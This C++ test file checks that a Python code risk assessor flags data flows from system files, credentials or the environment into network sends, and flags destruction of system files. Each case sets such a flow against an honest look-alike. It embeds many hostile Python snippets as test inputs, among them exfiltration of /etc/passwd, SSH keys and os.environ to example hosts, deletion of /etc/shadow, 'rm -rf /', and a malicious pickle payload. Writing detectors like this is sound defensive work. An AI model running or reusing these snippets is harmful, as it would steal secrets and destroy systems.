// Where the host's data goes (issue 41): values are followed from their sources (a system
// file's contents, credentials, the whole environment) through names, returns, attributes,
// containers, f-strings, lambdas, generators and calls of the file's own functions into the
// calls that send them or destroy files. Each case pairs the behaviour with an honest look-alike
// that must stay lower.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "assess_fixture.hpp"
#include "sandboxrun/assess.hpp"

using namespace sandboxrun;

namespace {

using assess_fixture::level;

const Finding* finding(const Assessment& a, std::string_view rule) {
  const auto it = std::find_if(a.findings.begin(), a.findings.end(), [&](const Finding& f) { return f.rule == rule; });
  return it == a.findings.end() ? nullptr : &*it;
}

}  // namespace

TEST(AssessDataFlow, HostDataSentOutIsHighAndTheFindingNamesSourceAndSink) {
  const Assessment a = assess_source(
      "import requests\nwith open('/etc/passwd') as f:\n    accounts = f.read()\n"
      "requests.post('https://collector.example.com/in', data=accounts)\n",
      assess_fixture::config());
  EXPECT_EQ(a.level, RiskLevel::high);
  const Finding* f = finding(a, "SR-FLOW-001");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->line, 4) << "the sink's line";
  EXPECT_NE(f->message.find("data read at line 2"), std::string::npos) << f->message;
  // The program's own file, summarised and posted: a client, nothing more.
  EXPECT_EQ(level("import json, requests\nwith open('settings.json') as f:\n    s = json.load(f)\n"
                  "requests.post('https://status.example.com/p', json={'jobs': len(s)})\n"),
            RiskLevel::medium);
  // Read and kept local: the account database enumerated.
  EXPECT_EQ(level("with open('/etc/passwd') as f:\n    print(sum(1 for _ in f))\n"), RiskLevel::medium);
}

TEST(AssessDataFlow, CredentialsOrTheEnvironmentSentOutAreBlocked) {
  EXPECT_EQ(level("import json, os, requests\nsnap = dict(os.environ)\n"
                  "requests.post('https://hooks.example.com/c', data=json.dumps(snap))\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import subprocess, urllib.request\nd = subprocess.check_output(['env'])\n"
                  "urllib.request.urlopen('http://198.51.100.5/e', data=d)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import socket\nk = open('/home/bob/.ssh/id_ed25519').read()\n"
                  "socket.gethostbyname(k[:20] + '.x.example.net')\n"),
            RiskLevel::blocked);
  // One setting of its own, as its own client's token: MEDIUM.
  EXPECT_EQ(level("import os, requests\nt = os.environ.get('GITHUB_TOKEN')\n"
                  "requests.get('https://api.github.com/user', headers={'Authorization': f'token {t}'})\n"),
            RiskLevel::medium);
}

TEST(AssessDataFlow, FollowsFunctionsClassesLambdasComprehensionsAndGenerators) {
  // The sink inside a function, the data given at its call.
  EXPECT_EQ(level("import requests\ndef report(text):\n    body = text.encode()\n"
                  "    requests.post('http://x.example/r', data=body)\nreport(open('/proc/cmdline').read())\n"),
            RiskLevel::high);
  // A helper that reads the path it is given.
  EXPECT_EQ(level("import requests\ndef slurp(p):\n    return open(p).read()\n"
                  "requests.post('http://x.example/r', data=slurp('/etc/group'))\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import requests\ndef slurp(p):\n    return open(p).read()\n"
                  "requests.post('http://x.example/r', data=slurp('notes.txt'))\n"),
            RiskLevel::medium);
  // Set on the instance in one method, sent by the caller.
  EXPECT_EQ(level("import requests\nclass Inv:\n    def __init__(self):\n        self.g = open('/etc/group').read()\n"
                  "inv = Inv()\nrequests.put('https://x.example/i', data=inv.g)\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import requests\nsend = lambda b: requests.post('https://x.example/u', data=b)\n"
                  "send(open('/etc/hostname').read())\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import requests\nm = [l.split()[1] for l in open('/proc/mounts')]\n"
                  "requests.post('https://x.example/m', json={'m': m})\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import socket\ndef lines(p):\n    for l in open(p):\n        yield l\n"
                  "s = socket.socket()\nfor l in lines('/etc/fstab'):\n    s.send(l.encode())\n"),
            RiskLevel::high);
  // Collected into a list with append, then joined.
  EXPECT_EQ(level("import requests\nout = []\nfor line in open('/root/.profile'):\n    out.append(line)\n"
                  "requests.post('https://x.example/p', data='\\n'.join(out))\n"),
            RiskLevel::high);
}

TEST(AssessDataFlow, DestroyingSystemFilesIsBlocked) {
  EXPECT_EQ(level("import os\nos.remove('/etc/passwd')\n"), RiskLevel::blocked);
  EXPECT_EQ(level("from pathlib import Path\nPath('/etc/group').unlink()\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import shutil\nshutil.move('/etc/passwd', '/tmp/p')\n"), RiskLevel::blocked);
  EXPECT_EQ(level("with open('/etc/fstab', 'w') as f:\n    f.write('')\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import shutil\nshutil.rmtree('/etc/ssh')\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import subprocess\nsubprocess.run(['rm', '-f', '/etc/shadow'])\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import glob, os\nfor c in glob.glob('/etc/*.conf'):\n    os.remove(c)\n"), RiskLevel::blocked);
  // Its own files, an edit of /etc/hosts, an install under /usr/local: not destruction.
  EXPECT_EQ(level("import glob, os\nfor c in glob.glob('out/*.csv'):\n    os.remove(c)\n"), RiskLevel::medium);
  EXPECT_EQ(level("with open('/etc/hosts', 'a') as f:\n    f.write('127.0.0.1 x\\n')\n"), RiskLevel::high);
  EXPECT_NE(level("import shutil\nshutil.copy('/usr/bin/tool', '/usr/local/bin/tool')\n"), RiskLevel::blocked);
}

TEST(AssessDataFlow, EachArgumentIsReadInItsRole) {
  // shutil.copy(SRC, DST): a copy of /etc/passwd away writes no passwd.
  EXPECT_EQ(level("import shutil\nshutil.copy('/etc/passwd', 'accounts.txt')\n"), RiskLevel::medium);
  EXPECT_EQ(level("import shutil\nshutil.copy('mine', '/etc/passwd')\n"), RiskLevel::blocked);
  // crontab -l lists; crontab FILE installs.
  EXPECT_NE(level("import os\nprint(os.popen('crontab -l').read())\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import os\nos.system('crontab job.txt')\n"), RiskLevel::blocked);
  // A pickle opcode stream written by hand that calls os.system.
  EXPECT_EQ(level("import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n"), RiskLevel::blocked);
}

TEST(AssessDataFlow, ARoundTripOfItsOwnObjectsIsNoPayload) {
  // In memory, through zlib or base64: it loads nothing it did not make a moment ago (LOW; the
  // policy allows LOW or MEDIUM, and every labeller who read it alone chose LOW).
  EXPECT_EQ(level("import pickle, zlib\nobj = {'a': [1, 2]}\n"
                  "print(pickle.loads(zlib.decompress(zlib.compress(pickle.dumps(obj)))))\n"),
            RiskLevel::low);
  EXPECT_EQ(level("import base64, pickle\nstate = {'s': 1}\nt = base64.b64encode(pickle.dumps(state)).decode()\n"
                  "print(pickle.loads(base64.b64decode(t)))\n"),
            RiskLevel::low);
  // freeze()/thaw() helpers: judged where thaw is called, by what it is given there.
  const std::string helpers = "import pickle, socket, sys, zlib\ndef freeze(o):\n    return zlib.compress(pickle.dumps(o))\n"
                              "def thaw(b):\n    return pickle.loads(zlib.decompress(b))\n";
  EXPECT_EQ(level(helpers + "history = [freeze({'a': 1})]\nprint(thaw(history[-1]))\n"), RiskLevel::low);
  EXPECT_EQ(level(helpers + "print(thaw(open(sys.argv[1], 'rb').read()))\n"), RiskLevel::medium);
  EXPECT_EQ(level(helpers + "s = socket.create_connection(('h.example', 9))\nprint(thaw(s.recv(4096)))\n"),
            RiskLevel::high);
  // Data from elsewhere, decoded and unpickled, still is.
  EXPECT_EQ(level("import base64, pickle, sys\npickle.loads(base64.b64decode(sys.argv[1]))\n"), RiskLevel::blocked);
  // A cache the program stores (below the function that loads it) or a state file it reads back
  // and rewrites holds its own objects.
  EXPECT_EQ(level("import base64, json, pickle, zlib\ndef load(p):\n    index = json.load(open(p))\n"
                  "    return {k: pickle.loads(zlib.decompress(base64.b64decode(v))) for k, v in index.items()}\n"
                  "def store(p, d):\n    json.dump({k: base64.b64encode(zlib.compress(pickle.dumps(v))).decode()\n"
                  "               for k, v in d.items()}, open(p, 'w'))\nstore('c.json', {'x': 1})\nprint(load('c.json'))\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import base64, pickle\ndata = open('state.b64').read()\nstate = pickle.loads(base64.b64decode(data))\n"
                  "open('state.b64', 'w').write(base64.b64encode(pickle.dumps(state)).decode())\n"),
            RiskLevel::medium);
  // Pickling something of its own does not make the command line, stdin, a socket, a response or
  // a constant its own.
  for (const char* src : {"sys.argv[1]", "sys.stdin.read()", "conn.makefile().readline()",
                          "urllib.request.urlopen('http://h.example/x').read()", "'Y29zCnN5c3RlbQooUydpZCcKdFIu'"})
    EXPECT_EQ(level(std::string("import base64, pickle, sys, urllib.request\nprint(pickle.dumps([1]))\nblob = ") + src +
                    "\nobj = pickle.loads(base64.b64decode(blob))\n"),
              RiskLevel::blocked)
        << src;
  // timeit of the file's own function with its own arguments is a benchmark.
  EXPECT_EQ(level("import timeit\ndef fib(n):\n    return n\nfor n in (1, 2):\n"
                  "    print(timeit.timeit(f'fib({n})', globals=globals(), number=3))\n"),
            RiskLevel::low);
  EXPECT_EQ(level("import sys, timeit\nprint(timeit.timeit(sys.argv[1]))\n"), RiskLevel::high);
  // Its functions handed to timeit as a namespace of their own, the statement calling one by name.
  const std::string bench = "import timeit\ndef a(d):\n    return sorted(d)\nIMPL = {'a': a}\ndef t(name):\n";
  EXPECT_EQ(level(bench + "    return timeit.Timer(f'{name}(data)', globals={**IMPL, 'data': [3, 1]}).timeit(5)\n"),
            RiskLevel::low);
  // The whole module namespace, or a statement that is no call of a name: still code.
  EXPECT_EQ(level(bench + "    return timeit.Timer(f'{name}(data)', globals=globals()).timeit(5)\n"), RiskLevel::high);
  EXPECT_EQ(level(bench + "    return timeit.Timer(f'{name}', globals={**IMPL}).timeit(5)\n"), RiskLevel::high);
  // Several statements against a builtin, with the file imported as the setup: a benchmark.
  const std::string vs = "from timeit import timeit\ndef msort(c):\n    return sorted(c)\ndata = [3, 1]\n";
  EXPECT_EQ(level(vs + "for stmt in ('msort(data)', 'sorted(data)'):\n"
                       "    timeit(stmt, setup='from __main__ import msort, data', number=3)\n"),
            RiskLevel::low);
  EXPECT_EQ(level(vs + "for stmt in ('msort(data)', 'sorted(data)'):\n    timeit(stmt, number=3)\n"), RiskLevel::high);
}

TEST(AssessDataFlow, HelpersDefaultsItemsAndFilesWrittenOnTheWay) {
  // A helper given a system path destroys it.
  EXPECT_EQ(level("import shutil\ndef purge(p):\n    shutil.rmtree(p, ignore_errors=True)\npurge('/usr/lib/python3')\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import shutil\ndef purge(p):\n    shutil.rmtree(p, ignore_errors=True)\npurge('build')\n"),
            RiskLevel::medium);
  // A default path, read by a call without the argument.
  EXPECT_EQ(level("import requests\ndef release(path='/etc/os-release'):\n    return open(path).read()\n"
                  "requests.post('https://x.example/i', json={'r': release()})\n"),
            RiskLevel::high);
  // A default built as a path (root=Path("/etc")), kept by an object and joined there.
  EXPECT_EQ(level("from pathlib import Path\nclass Files:\n    def __init__(self, root=Path('/etc')):\n"
                  "        self.root = root\n    def write(self, name, text):\n"
                  "        with open(self.root / name, 'w') as fh:\n            fh.write(text)\n"
                  "Files().write('resolv.conf', 'nameserver 1.1.1.1')\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("from pathlib import Path\nclass Files:\n    def __init__(self, root=Path('out')):\n"
                  "        self.root = root\n    def write(self, name, text):\n"
                  "        with open(self.root / name, 'w') as fh:\n            fh.write(text)\n"
                  "Files().write('resolv.conf', 'nameserver 1.1.1.1')\n"),
            RiskLevel::medium);
  // Stored into a dict item, then sent.
  EXPECT_EQ(level("import requests\nfacts = {}\nfacts['kernel'] = open('/proc/version').read()\n"
                  "requests.post('https://x.example/f', json=facts)\n"),
            RiskLevel::high);
  // Copied or written to a local file first, then uploaded from it.
  EXPECT_EQ(level("import ftplib, shutil\nshutil.copyfile('/etc/fstab', 'f.txt')\nftp = ftplib.FTP('h.example')\n"
                  "with open('f.txt', 'rb') as fh:\n    ftp.storbinary('STOR f', fh)\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import json, requests\nhw = {'v': open('/sys/class/dmi/id/sys_vendor').read()}\n"
                  "with open('hw.json', 'w') as out:\n    json.dump(hw, out)\n"
                  "requests.post('https://x.example/r', data=open('hw.json', 'rb'))\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import json, requests\nhw = {'v': 1}\nwith open('hw.json', 'w') as out:\n    json.dump(hw, out)\n"
                  "requests.post('https://x.example/r', data=open('hw.json', 'rb'))\n"),
            RiskLevel::medium);
}

TEST(AssessDataFlow, AConstantChosenByAConditionIsStillAConstant) {
  // Clearing the screen: either command is fixed text, not a command built from input.
  EXPECT_EQ(level("import os\nos.system('cls' if os.name == 'nt' else 'clear')\n"), RiskLevel::medium);
  EXPECT_EQ(level("import os\ncmd = 'cls' if os.name == 'nt' else 'clear'\nos.system(cmd)\n"), RiskLevel::medium);
  // Both values are read: the other branch cannot hide a command.
  EXPECT_EQ(level("import os\nos.system('ls' if os.name == 'nt' else 'rm -rf /')\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import os, sys\nos.system('ls ' + sys.argv[1] if sys.argv else 'ls')\n"), RiskLevel::high);
}

TEST(AssessDataFlow, LambdasOfSeveralParametersClassAttributesAndOneItemLoops) {
  // A lambda's body is what it returns, whatever its parameters.
  EXPECT_EQ(level("import os, requests\nrb = lambda a, b: open(os.path.join(a, b), 'rb').read()\n"
                  "requests.post('https://x.example/h', data=rb('/proc', 'cmdline'))\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import os, requests\nrb = lambda *parts: open(os.path.join(*parts), 'rb').read()\n"
                  "requests.post('https://x.example/h', data=rb('/proc', '1', 'cmdline'))\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import os, requests\nrb = lambda a, b: open(os.path.join(a, b)).read()\n"
                  "requests.post('https://x.example/h', data=rb('out', 'report.txt'))\n"),
            RiskLevel::medium);
  // Keywords a function collects with **kwargs and hands on: the data goes with them.
  EXPECT_EQ(level("import requests\ndef send(url, **kw):\n    return requests.post(url, **kw)\n"
                  "send('https://x.example/v', data=open('/etc/passwd').read())\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import requests\nput = lambda **fields: requests.put('https://x.example/c', json=fields)\n"
                  "facts = dict(kernel=open('/proc/version').read())\nput(**facts)\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import requests\ndef send(url, **kw):\n    return requests.post(url, **kw)\n"
                  "send('https://x.example/v', data='done', timeout=5)\n"),
            RiskLevel::medium);
  // A fallback returned after the data does not wash the data out of the function.
  EXPECT_EQ(level("import socket\ndef dmi(field):\n    try:\n        with open(f'/sys/class/dmi/id/{field}') as fh:\n"
                  "            return fh.read()\n    except OSError:\n        return 'n/a'\n"
                  "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                  "s.sendto(dmi('product_serial').encode(), ('h.example', 5140))\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import socket\ndef score(n):\n    try:\n        return str(n * 2)\n    except TypeError:\n"
                  "        return 'n/a'\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                  "s.sendto(score(4).encode(), ('h.example', 5140))\n"),
            RiskLevel::medium);
  // A class's own table, walked through self in a method.
  EXPECT_EQ(level("import requests\nclass P:\n    sources = {'cpu': '/proc/cpuinfo'}\n    def g(self):\n"
                  "        for name, path in self.sources.items():\n            return open(path).read()\n"
                  "requests.post('https://x.example/h', data=P().g())\n"),
            RiskLevel::high);
  // A loop over a list of one path reads that path.
  EXPECT_EQ(level("import requests\nfor path in ['/proc/cpuinfo']:\n    data = open(path).read()\n"
                  "requests.post('https://x.example/h', data=data)\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import requests\nfor path in ['results.csv']:\n    data = open(path).read()\n"
                  "requests.post('https://x.example/h', data=data)\n"),
            RiskLevel::medium);
}

TEST(AssessDataFlow, PathsReturnedYieldedAndFallenBackOnReachTheirSinks) {
  // A function builds the paths; its caller loops over them and deletes each.
  EXPECT_EQ(level("import os, shutil\ndef targets():\n    return [os.path.join('/usr', 'share', 'doc')]\n"
                  "for path in targets():\n    shutil.rmtree(path)\n"),
            RiskLevel::blocked);
  // Built from the parameter: the caller's path is the base.
  EXPECT_EQ(level("import os, shutil\ndef under(prefix):\n    return os.path.join(prefix, 'share', 'doc')\n"
                  "shutil.rmtree(under('/usr'))\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import os, shutil\ndef under(prefix):\n    return os.path.join(prefix, 'share', 'doc')\n"
                  "shutil.rmtree(under('build'))\n"),
            RiskLevel::medium);
  // A generator's yields are what a loop over it gets.
  EXPECT_EQ(level("import os\nROOT = '/var/lib'\ndef paths():\n    for sub in ['dpkg', 'apt']:\n"
                  "        yield os.path.join(ROOT, sub, 'status')\nfor p in paths():\n    os.truncate(p, 0)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import os\ndef paths():\n    for sub in ['a', 'b']:\n        yield os.path.join('cache', sub)\n"
                  "for p in paths():\n    os.truncate(p, 0)\n"),
            RiskLevel::medium);
  // With no argument the program uses the path it falls back on.
  EXPECT_EQ(level("import os, shutil, sys\ndef slim(prefix):\n    shutil.rmtree(os.path.join(prefix, 'share/man'))\n"
                  "slim(sys.argv[1] if len(sys.argv) > 1 else '/usr')\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import os, shutil\nroot = os.environ.get('PREFIX', '/usr/local')\nshutil.rmtree(root)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import os, shutil, sys\ndef slim(prefix):\n    shutil.rmtree(os.path.join(prefix, 'share/man'))\n"
                  "slim(sys.argv[1] if len(sys.argv) > 1 else 'dist')\n"),
            RiskLevel::medium);
}

TEST(AssessDataFlow, SystemPathsAreFollowedToTheCallsThatDestroyThem) {
  // Kept in objects of the file's own class, built by a method, handed to a helper.
  EXPECT_EQ(level("import shutil\nfrom pathlib import Path\nclass State:\n    def __init__(self, root, names):\n"
                  "        self.root = Path(root)\n        self.names = names\n    def paths(self):\n"
                  "        return [self.root / n for n in self.names]\nSTATE = [State('/var/lib/dpkg', ['status'])]\n"
                  "def purge(p):\n    shutil.rmtree(p)\nfor s in STATE:\n    for p in s.paths():\n        purge(p)\n"),
            RiskLevel::blocked);
  // Walked by a generator, opened, truncated through the descriptor.
  EXPECT_EQ(level("import os\nDIRS = ['/var/lib/mysql']\ndef files(dirs):\n    for top in dirs:\n"
                  "        for d, _s, names in os.walk(top):\n            for n in names:\n"
                  "                yield os.path.join(d, n)\ndef cut(path):\n    fd = os.open(path, os.O_RDWR)\n"
                  "    os.ftruncate(fd, 0)\nfor p in files(DIRS):\n    cut(p)\n"),
            RiskLevel::blocked);
  // An argparse default is what runs with no arguments: logs found under it, truncated.
  EXPECT_EQ(level("import argparse\nfrom pathlib import Path\nap = argparse.ArgumentParser()\n"
                  "ap.add_argument('--root', default='/var/log')\nargs = ap.parse_args()\n"
                  "def reclaim(p):\n    with p.open('w'):\n        pass\nfor p in Path(args.root).glob('**/*.log'):\n"
                  "    reclaim(p)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import fileinput, sys\nTABLES = ['/etc/group']\nwith fileinput.input(files=TABLES, inplace=True) as s:\n"
                  "    for line in s:\n        sys.stdout.write(line)\n"),
            RiskLevel::blocked);
  // Look-alikes: a path under another root, a string operation, a temporary directory, a name.
  EXPECT_EQ(level("import os\ndef ensure(rootdir):\n    for f in ['/var/lib/dpkg/status']:\n"
                  "        if not os.path.exists(rootdir + f):\n            open(rootdir + f, 'w').close()\n"
                  "ensure(os.getcwd())\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import os\ndef fix(platlib):\n    return platlib.replace('/lib64/', '/lib/')\nos.remove(fix(x))\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import os, tempfile\ndirs = []\ndirs.extend(['/tmp', '/usr/tmp'])\nfor d in dirs:\n"
                  "    name = os.path.join(d, 'probe')\n    open(name, 'w').close()\n    os.unlink(name)\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import os\nos.remove(os.path.basename('/usr/share/dict/words'))\n"), RiskLevel::medium);
  EXPECT_EQ(level("import argparse, shutil\nap = argparse.ArgumentParser()\nap.add_argument('--out', default='build')\n"
                  "shutil.rmtree(ap.parse_args().out)\n"),
            RiskLevel::medium);
}

TEST(AssessDataFlow, AComprehensionsNamesHoldWhatItIteratesUntilItCloses) {
  EXPECT_EQ(level("import requests\nPATHS = ['/etc/hostname', '/etc/resolv.conf']\n"
                  "data = [open(p).read() for p in PATHS]\nrequests.post('https://x.example/u', json=data)\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import requests\nSRC = {'host': '/etc/hostname'}\n"
                  "data = {k: open(v).read() for k, v in SRC.items()}\nrequests.post('https://x.example/u', json=data)\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import requests\nPATHS = ['report.csv', 'summary.txt']\n"
                  "data = [open(p).read() for p in PATHS]\nrequests.post('https://x.example/u', json=data)\n"),
            RiskLevel::medium);
  // After the bracket the name is the program's own again: no flow is followed into the post
  // (the file still names a host path, reads and sends, so SR-FLOW-032 rates it HIGH).
  EXPECT_EQ(finding(assess_source("import requests\nPATHS = ['/etc/hostname']\np = 'notes.txt'\n"
                                  "sizes = [len(p) for p in PATHS]\n"
                                  "requests.post('https://x.example/u', data=open(p).read())\n",
                                  assess_fixture::config()),
                    "SR-FLOW-001"),
            nullptr);
  // The list a comprehension makes holds what its iterable gives, a call's result too: a glob,
  // the file's own generator, an object built on each path.
  EXPECT_EQ(level("import shutil\nfrom pathlib import Path\nvictims = [p for p in Path('/usr/share/doc').glob('*')]\n"
                  "for v in victims:\n    shutil.rmtree(v)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import shutil\nfrom pathlib import Path\ndef matches(root):\n    for p in Path(root).glob('*'):\n"
                  "        yield p\nROOTS = ['/usr/share/doc', '/usr/include']\n"
                  "victims = [p for r in ROOTS for p in matches(r)]\nfor v in victims:\n    shutil.rmtree(v)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import shutil\nfrom dataclasses import dataclass\n@dataclass\nclass Victim:\n    path: str\n"
                  "victims = [Victim(p) for p in ['/usr/share/doc']]\nfor v in victims:\n    shutil.rmtree(v.path)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import shutil\nfrom pathlib import Path\nvictims = [p for p in Path('build').glob('*')]\n"
                  "for v in victims:\n    shutil.rmtree(v)\n"),
            RiskLevel::medium);
}

TEST(AssessDataFlow, ObjectsCarryWhatTheirMethodsAndAttributesHold) {
  // What __init__ stored is what every other method reads through self.
  EXPECT_EQ(level("import os\nNAMES = ('passwd', 'group')\nclass W:\n    def __init__(self, d):\n        self.d = d\n"
                  "    def targets(self):\n        return [os.path.join(self.d, n) for n in NAMES]\n"
                  "    def wipe(self, p):\n        with open(p, 'w') as fh:\n            fh.write('')\n"
                  "w = W('/etc')\nfor p in w.targets():\n    w.wipe(p)\n"),
            RiskLevel::blocked);
  // A @staticmethod called through self is given no self.
  EXPECT_EQ(level("import requests\nclass C:\n    @staticmethod\n    def read(path):\n        with open(path) as fh:\n"
                  "            return fh.read()\n    def collect(self):\n        return {'v': self.read('/proc/version')}\n"
                  "requests.post('https://x.example/f', json=C().collect())\n"),
            RiskLevel::high);
  // A method of the file's classes called on a loop's item.
  EXPECT_EQ(level("import requests\nclass K:\n    def collect(self):\n        return open('/proc/cmdline').read()\n"
                  "def gather(cs):\n    return {c: c.collect() for c in cs}\n"
                  "requests.post('https://x.example/f', json=gather([K()]))\n"),
            RiskLevel::high);
  // An attribute of an object the program made, and the object as a whole.
  EXPECT_EQ(level("import requests\nclass P:\n    x = ''\ndef load():\n    p = P()\n    p.x = open('/proc/meminfo').read()\n"
                  "    return p\nrequests.post('https://x.example/a', data=load())\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import requests\nclass P:\n    x = ''\np = P()\np.x = open('notes.txt').read()\n"
                  "requests.post('https://x.example/a', data=p.x)\n"),
            RiskLevel::medium);
  // Path / name is a path under the left one; `yield a, b` a tuple of what each carries.
  EXPECT_EQ(level("from pathlib import Path\nimport requests\nPROC = Path('/proc')\ndef rd(name):\n"
                  "    return (PROC / name).read_text()\nrequests.post('https://x.example/a', data=rd('cpuinfo'))\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import socket\ndef rows(path):\n    with open(path) as fh:\n        for line in fh:\n"
                  "            parts = line.split(':')\n            yield parts[0], parts[5]\n"
                  "s = socket.create_connection(('h.example', 9))\nfor name, home in rows('/etc/passwd'):\n"
                  "    s.sendall(f'{name} {home}'.encode())\n"),
            RiskLevel::high);
}

TEST(AssessDataFlow, LoggingHandlersToOtherHostsAndDecoratorsCarryData) {
  // Records logged through a handler that ships them to another host are sent there.
  EXPECT_EQ(level("import logging, logging.handlers\nlog = logging.getLogger('a')\n"
                  "log.addHandler(logging.handlers.SysLogHandler(address=('logs.example.com', 514)))\n"
                  "log.info('serial %s', open('/sys/class/dmi/id/product_serial').read())\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import logging, logging.handlers, os\nlog = logging.getLogger('a')\n"
                  "log.addHandler(logging.handlers.HTTPHandler('logs.example.com', '/in', method='POST'))\n"
                  "log.warning('env %s', dict(os.environ))\n"),
            RiskLevel::blocked);
  // The local syslog socket is no network; a remote handler alone is a network client.
  EXPECT_EQ(level("import logging, logging.handlers\nlog = logging.getLogger('a')\n"
                  "log.addHandler(logging.handlers.SysLogHandler(address='/dev/log'))\n"
                  "log.info('host %s', open('/etc/hostname').read())\n"),
            RiskLevel::low);
  EXPECT_EQ(level("import logging, logging.handlers\nlog = logging.getLogger('a')\n"
                  "log.addHandler(logging.handlers.SysLogHandler(address=('logs.example.com', 514)))\n"
                  "log.info('done in %d s', 3)\n"),
            RiskLevel::medium);
  // A decorator of the file's own whose wrapper adds host data to what the function returns.
  EXPECT_EQ(level("import functools, requests\ndef with_host(func):\n    @functools.wraps(func)\n"
                  "    def wrapper(*a, **k):\n        out = func(*a, **k)\n        out['host'] = open('/etc/hostname').read()\n"
                  "        return out\n    return wrapper\n@with_host\ndef status():\n    return {'ok': True}\n"
                  "requests.post('https://x.example/s', json=status())\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import functools, requests\ndef timed(func):\n    @functools.wraps(func)\n"
                  "    def wrapper(*a, **k):\n        return func(*a, **k)\n    return wrapper\n@timed\ndef status():\n"
                  "    return {'ok': True}\nrequests.post('https://x.example/s', json=status())\n"),
            RiskLevel::medium);
}

TEST(AssessDataFlow, FunctionsPassedAsValuesMeetTheDataTheyAreCalledWith) {
  // A producer and a consumer handed to a runner.
  EXPECT_EQ(level("import requests\ndef snap():\n    return open('/etc/ssh/sshd_config').read()\n"
                  "def up(data):\n    requests.post('https://x.example/u', data=data)\n"
                  "def run(produce, consume):\n    return consume(produce())\nrun(snap, up)\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import requests\ndef snap():\n    return 'nightly report'\n"
                  "def up(data):\n    requests.post('https://x.example/u', data=data)\n"
                  "def run(produce, consume):\n    return consume(produce())\nrun(snap, up)\n"),
            RiskLevel::medium);
  // A thread's target and an executor's task are called with the arguments given beside them.
  EXPECT_EQ(level("import threading, requests\ndef worker(path, url):\n    requests.post(url, data=open(path).read())\n"
                  "threading.Thread(target=worker, args=('/etc/passwd', 'https://x.example/u')).start()\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import concurrent.futures as cf, requests\ndef worker(path):\n"
                  "    requests.post('https://x.example/u', data=open(path).read())\n"
                  "with cf.ThreadPoolExecutor() as ex:\n    ex.submit(worker, '/proc/cpuinfo')\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import concurrent.futures as cf, requests\ndef worker(path):\n"
                  "    requests.post('https://x.example/u', data=open(path).read())\n"
                  "with cf.ThreadPoolExecutor() as ex:\n    ex.submit(worker, 'report.csv')\n"),
            RiskLevel::medium);
}

TEST(AssessDataFlow, IteratedObjectsDefaultsAndReceiversGivenByTheCaller) {
  // A class whose __iter__ yields system folders, walked by a helper that deletes what it finds.
  EXPECT_EQ(level("import os\nclass Jobs:\n    def __init__(self, prefix='/etc'):\n        self.prefix = prefix\n"
                  "    def __iter__(self):\n        for sub in ('cron.d', 'cron.daily'):\n"
                  "            yield os.path.join(self.prefix, sub)\ndef purge(d):\n    for dp, _s, names in os.walk(d):\n"
                  "        for n in names:\n            os.remove(os.path.join(dp, n))\n"
                  "total = sum(purge(d) for d in Jobs())\n"),
            RiskLevel::blocked);
  // A list default of an argparse option; a file opened in place and truncated.
  EXPECT_EQ(level("import argparse, glob, os\nap = argparse.ArgumentParser()\n"
                  "ap.add_argument('--root', action='append', default=['/var/log'])\nargs = ap.parse_args()\n"
                  "def empty(path):\n    open(path, 'r+b').truncate(0)\nfor r in args.root:\n"
                  "    for p in glob.glob(os.path.join(r, '*.log')):\n        empty(p)\n"),
            RiskLevel::blocked);
  // os.sep + "etc" is /etc.
  EXPECT_EQ(level("import os\netc = os.sep + 'etc'\nfor t in ('shadow', 'group'):\n"
                  "    with open(os.path.join(etc, t), 'w') as fh:\n        fh.write('')\n"),
            RiskLevel::blocked);
  // A session handed to a helper is the session's method there.
  EXPECT_EQ(level("import aiohttp, os\nasync def register(session, bundle):\n    await session.post('https://x.example/r', json=bundle)\n"
                  "async def main():\n    bundle = {'cpu': open('/proc/cpuinfo').read()}\n"
                  "    async with aiohttp.ClientSession() as s:\n        await register(s, bundle)\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import aiohttp\nasync def register(session, bundle):\n    await session.post('https://x.example/r', json=bundle)\n"
